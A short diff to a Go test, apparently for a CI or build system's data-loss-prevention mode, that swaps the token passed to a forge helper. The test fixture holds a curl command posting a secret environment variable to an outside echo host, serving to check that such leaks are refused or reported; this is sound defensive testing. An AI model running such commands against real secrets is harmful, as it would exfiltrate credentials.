@@ -179,7 +179,7 @@ func TestASecretThatLeavesIsRefusedOrTold(t *testing.T) {
 	} {
 		t.Run(mode, func(t *testing.T) {
 			u, server := forge(t, `curl -sS -o answer.txt -w "%{http_code}" -d "it is $LAMP" http://echo.bottle/echo/x > out.txt; true`, "dlp: "+mode, "env: {LAMP: \"${LAMP}\"}")
-			command := startForge(u, server, "runc", gitToken)
+			command := startForge(u, server, "runc", server.Token)
 			command.Env = append(command.Env, "LAMP=the-value-of-the-lamp")
 			r := u.RunCommand(command).Want(t, 0)
 			if got := u.Work("out.txt"); got != want.inside {
